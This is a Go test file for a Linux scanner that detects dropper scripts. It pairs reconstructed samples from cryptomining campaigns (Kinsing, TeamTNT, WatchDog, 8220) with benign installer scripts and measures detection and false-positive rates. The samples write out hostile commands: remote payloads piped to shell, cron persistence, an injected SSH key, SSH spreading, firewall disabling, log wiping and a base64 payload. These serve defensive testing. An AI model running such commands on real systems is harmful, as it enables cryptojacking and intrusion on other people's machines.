package linux

import (
	"io/fs"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"testing"

	"github.com/snapscan/snapscan/report"
)

// Droppers reconstructed from the vendor reports of each campaign (the
// behaviours they list, in their words, not their files), and benign twins
// modelled on what well-known installers and maintainer scripts do.
var dropperCases = []struct {
	name  string
	text  string
	min   report.Severity // at least
	below bool            // must stay below medium instead
}{
	{"Kinsing d.sh (Aqua, TrendMicro)", "#!/bin/bash\nulimit -n 65535\nchattr -i /etc/ld.so.preload\nrm -f /etc/ld.so.preload\n" +
		"pkill -f kdevtmpfsi\nps aux | grep -v grep | grep 'xmrig' | awk '{print $2}' | xargs kill -9\nsystemctl stop aliyun.service\n" +
		"curl -s http://194.38.20.199/kinsing -o /tmp/kinsing\nchmod +x /tmp/kinsing\n/tmp/kinsing\n" +
		"crontab -l | sed '/update.sh/d' | crontab -\n(crontab -l 2>/dev/null; echo \"* * * * * wget -q -O - http://194.38.20.199/d.sh | sh > /dev/null 2>&1\") | crontab -\nhistory -c\n", report.High, false},
	{"TeamTNT mo.sh (Cado, Unit 42)", "#!/bin/bash\nexport LC_ALL=C.UTF-8\nif type cd1 2>/dev/null 1>/dev/null; then\n  cd1 -sLk http://teamtnt.red/sh/setup/moneroocean_miner.sh | bash\nfi\n" +
		"chattr -ia /root/.ssh/authorized_keys\necho 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC1 teamtnt' >> /root/.ssh/authorized_keys\n" +
		"for h in $(cat ~/.ssh/known_hosts | cut -f1 -d' '); do ssh -oBatchMode=yes -oStrictHostKeyChecking=no root@$h 'curl -sLk http://teamtnt.red/i.sh | bash' & done\n" +
		"echo 0 > /proc/sys/kernel/nmi_watchdog\nunset HISTFILE\n", report.Critical, false},
	{"WatchDog init.sh (Unit 42)", "#!/bin/sh\nsetenforce 0 2>/dev/null\nufw disable\nmv /usr/bin/wget /usr/bin/wdt\nwdt -q -O /tmp/.watchdogs http://crypto.watchdogs.example/watchdogs\n" +
		"chmod +x /tmp/.watchdogs && /tmp/.watchdogs\necho '*/15 * * * * (curl -fsSL https://pastebin.com/raw/x||wdt -q -O- https://pastebin.com/raw/x)|sh' > /var/spool/cron/root\n" +
		"chattr +i /var/spool/cron/root\nrm -rf /var/log/syslog\n", report.Critical, false},
	{"8220 xms (SentinelOne)", "#!/bin/bash\nsystemctl stop firewalld\niptables -F\nchattr -i /etc/cron.d/*\n" +
		"echo \"*/30 * * * * root (curl -s http://91.201.67.14/xms||wget -q -O - http://91.201.67.14/xms)|bash -sh\" > /etc/cron.d/root\n" +
		"echo 'IyEvYmluL3NoCmN1cmwgaHR0cDovLzkxLjIwMS42Ny4xNC94IC1vIC90bXAveCAmJiBjaG1vZCAreCAvdG1wL3ggJiYgL3RtcC94IHN0cmF0dW0rdGNwOi8vcG9vbA==' | base64 -d | bash\n" +
		"pkill -9 -f kthreaddi\n", report.Critical, false},
	{"rustup-init style installer", "#!/bin/sh\nset -u\nRUSTUP_UPDATE_ROOT=\"${RUSTUP_UPDATE_ROOT:-https://static.rust-lang.org/rustup}\"\n" +
		"main() {\n  local _dir=\"$(ensure mktemp -d)\"\n  local _file=\"${_dir}/rustup-init\"\n  ensure downloader \"$_url\" \"$_file\" \"$_arch\"\n" +
		"  ensure chmod u+x \"$_file\"\n  \"$_file\" \"$@\" </dev/tty\n  ignore rm \"$_file\"\n}\ndownloader() {\n  curl --proto '=https' --tlsv1.2 --silent --show-error --fail --location \"$1\" --output \"$2\"\n}\nmain \"$@\" || exit 1\n", 0, true},
	{"nvm install.sh style installer", "#!/usr/bin/env bash\nnvm_install_dir() { printf %s \"${NVM_DIR:-$HOME/.nvm}\"; }\n" +
		"command git clone \"$(nvm_source)\" --depth=1 \"${INSTALL_DIR}\"\n" +
		"SOURCE_STR=\"\\nexport NVM_DIR=\\\"$(nvm_install_dir)\\\"\\n[ -s \\\"\\$NVM_DIR/nvm.sh\\\" ] && \\\\. \\\"\\$NVM_DIR/nvm.sh\\\"\"\n" +
		"command printf \"${SOURCE_STR}\" >> \"$NVM_PROFILE\"\n", 0, true},
	{"get-docker.sh style installer", "#!/bin/sh\nset -e\nsh_c='sh -c'\n$sh_c 'apt-get update -qq >/dev/null'\n" +
		"$sh_c 'install -m 0755 -d /etc/apt/keyrings'\n$sh_c \"curl -fsSL \\\"$DOWNLOAD_URL/linux/$lsb_dist/gpg\\\" -o /etc/apt/keyrings/docker.asc\"\n" +
		"$sh_c \"echo \\\"$apt_repo\\\" > /etc/apt/sources.list.d/docker.list\"\n$sh_c \"DEBIAN_FRONTEND=noninteractive apt-get install -y -qq $pkgs >/dev/null\"\n", 0, true},
	{"Homebrew install.sh style installer", "#!/bin/bash\nset -u\nabort() { printf \"%s\\n\" \"$@\" >&2; exit 1; }\n" +
		"execute \"${USABLE_GIT}\" \"fetch\" \"--force\" \"origin\"\nexecute \"${HOMEBREW_PREFIX}/bin/brew\" \"update\" \"--force\" \"--quiet\"\n" +
		"echo 'eval \"$(/home/linuxbrew/.linuxbrew/bin/brew shellenv)\"' >> ~/.bashrc\n", 0, true},
	{"Debian postinst", "#!/bin/sh\nset -e\nif [ \"$1\" = configure ]; then\n  if ! getent passwd _apt >/dev/null; then adduser --force-badname --system --home /nonexistent --no-create-home --quiet _apt; fi\n" +
		"  chown _apt:root /var/cache/apt/archives/partial\nfi\nif [ -d /run/systemd/system ]; then systemctl --system daemon-reload >/dev/null || true; fi\n" +
		"deb-systemd-helper enable apt-daily.timer >/dev/null || true\n", 0, true},
}

func TestScoreScript(t *testing.T) {
	for _, c := range dropperCases {
		t.Run(c.name, func(t *testing.T) {
			sc := ScoreScript([]byte(c.text))
			var names []string
			for _, b := range sc.Behaviours {
				names = append(names, b.Name)
			}
			switch {
			case c.below && sc.Scored && sc.Severity >= report.Medium:
				t.Errorf("benign script scored %s: %v", sc.Severity, names)
			case !c.below && (!sc.Scored || sc.Severity < c.min):
				t.Errorf("dropper scored %v (%s), want %s: %v", sc.Scored, sc.Severity, c.min, names)
			}
			t.Logf("%d behaviours %v", len(names), names)
		})
	}
}

// The dropper check finds a script in /var/tmp (no sweep), its benign twin
// in a home stays quiet; the file hook scores scripts elsewhere.
func TestDroppersCheck(t *testing.T) {
	runCases(t, []checkCase{
		{name: "dropper in /var/tmp, installer in a home", check: "droppers", files: map[string]string{
			"etc/passwd":                     passwd,
			"var/tmp/.ICE-unix/init.sh":      dropperCases[0].text,
			"home/alice/Downloads/rustup.sh": dropperCases[4].text,
			"tmp/notes.txt":                  strings.TrimPrefix(dropperCases[1].text, "#!/bin/bash\n"), // not a script: no #!, no .sh
		}, want: []want{{path: "/var/tmp/.ICE-unix/init.sh", rule: "dropper.script", technique: "T1059.004", sev: report.Critical, desc: "kills competing miners"}},
			notAt: []string{"/home/alice/Downloads/rustup.sh", "/tmp/notes.txt"}, invKind: "shell-script"},
	})
	dir := tree(t, map[string]string{"opt/app/setup.sh": dropperCases[1].text, "usr/share/app/postinst.sh": dropperCases[8].text})
	fsys := overlayWith(t, dir, "")
	fs, _ := feedHook(t, fsys, NewFileHook(fsys, "test@1", "/"), "/")
	got := map[string]report.Severity{}
	for _, f := range fs {
		if f.Rule == "dropper.script" {
			got[f.Evidence.Path] = f.Severity
		}
	}
	if got["/opt/app/setup.sh"] != report.Critical || len(got) != 1 {
		t.Errorf("hook: %v", got)
	}
}

// TestDropperCorpus measures the scorer (the README's figures): real
// droppers from public repositories (testdata/droppers/SOURCES.tsv lists
// them; fetched into SNAPSCAN_DROPPERS, default
// /var/cache/snapscan-test/droppers/real) must score medium or worse, and
// every shell script of the Debian bookworm tree the debootstrap test
// builds (maintainer scripts, /usr/bin and /usr/sbin scripts, /etc) must
// stay below medium.
func TestDropperCorpus(t *testing.T) {
	real := os.Getenv("SNAPSCAN_DROPPERS")
	if real == "" {
		real = "/var/cache/snapscan-test/droppers/real"
	}
	bad := scriptsUnder(t, real, false)
	benign := scriptsUnder(t, "/var/cache/snapscan-test/bookworm", true)
	if len(bad) == 0 || len(benign) == 0 {
		t.Skipf("corpus absent (%d droppers in %s, %d bookworm scripts): see testdata/droppers/SOURCES.tsv and TestDebootstrapBookworm", len(bad), real, len(benign))
	}
	hit := 0
	for _, p := range sortedKeys(bad) {
		sc := ScoreScript(bad[p])
		if sc.Scored && sc.Severity >= report.Medium {
			hit++
		} else {
			t.Logf("missed %s: %d behaviours", filepath.Base(p), len(sc.Behaviours))
		}
	}
	fp := 0
	for _, p := range sortedKeys(benign) {
		if sc := ScoreScript(benign[p]); sc.Scored && sc.Severity >= report.Medium {
			fp++
			t.Errorf("benign %s scored %s", p, sc.Severity)
		}
	}
	t.Logf("droppers: %d of %d real droppers scored medium or worse; benign: %d of %d bookworm shell scripts scored medium or worse", hit, len(bad), fp, len(benign))
	if hit*10 < len(bad)*8 {
		t.Errorf("detection %d/%d below 80%%", hit, len(bad))
	}
}

// scriptsUnder reads the shell scripts below dir (all files when
// scriptsOnly is false).
func scriptsUnder(t *testing.T, dir string, scriptsOnly bool) map[string][]byte {
	out := map[string][]byte{}
	filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return nil
		}
		info, err := d.Info()
		if err != nil || info.Size() == 0 || info.Size() > maxDropperScript {
			return nil
		}
		f, err := os.Open(p)
		if err != nil {
			return nil
		}
		head := make([]byte, 256)
		n, _ := f.Read(head)
		f.Close()
		head = head[:n]
		if !scriptsOnly || looksLikeShellScript(d.Name(), head) || strings.Contains(p, "/var/lib/dpkg/info/") && isText(head) {
			if b, err := os.ReadFile(p); err == nil {
				out[p] = b
			}
		}
		return nil
	})
	return out
}

func sortedKeys(m map[string][]byte) []string {
	var ks []string
	for k := range m {
		ks = append(ks, k)
	}
	sort.Strings(ks)
	return ks
}

// TestDropperInstallers measures the benign side on the real well-known
// "curl | sh" installers (testdata/droppers/BENIGN.tsv: rustup, nvm,
// Docker's get script, Homebrew, each at a pinned commit, fetched into
// SNAPSCAN_INSTALLERS, default /var/cache/snapscan-test/droppers/benign):
// each downloads and runs code once, and must stay below medium.
func TestDropperInstallers(t *testing.T) {
	dir := os.Getenv("SNAPSCAN_INSTALLERS")
	if dir == "" {
		dir = "/var/cache/snapscan-test/droppers/benign"
	}
	list, err := os.ReadFile("../../testdata/droppers/BENIGN.tsv")
	if err != nil {
		t.Fatal(err)
	}
	rows := 0
	below := 0
	for _, line := range strings.Split(string(list), "\n") {
		f := strings.Split(line, "\t")
		if strings.HasPrefix(line, "#") || len(f) != 6 {
			continue
		}
		rows++
		t.Run(f[0], func(t *testing.T) {
			b, err := os.ReadFile(filepath.Join(dir, f[0]))
			if err != nil {
				t.Skipf("installer absent (testdata/droppers/fetch.sh fetches it): %v", err)
			}
			if strconv.Itoa(len(b)) != f[5] {
				t.Fatalf("%s is %d bytes, BENIGN.tsv says %s: not the revision %s of %s", f[0], len(b), f[5], f[2], f[1])
			}
			sc := ScoreScript(b)
			var names []string
			for _, bh := range sc.Behaviours {
				names = append(names, bh.Name)
			}
			if sc.Scored && sc.Severity >= report.Medium {
				t.Errorf("%s (%s) scored %s: %v", f[0], f[1], sc.Severity, names)
			} else {
				below++
			}
			t.Logf("%s: %d behaviours %v", f[0], len(names), names)
		})
	}
	if rows == 0 {
		t.Fatal("BENIGN.tsv lists no installer")
	}
	t.Logf("installers: %d of %d well-known curl|sh installers scored below medium", below, rows)
}
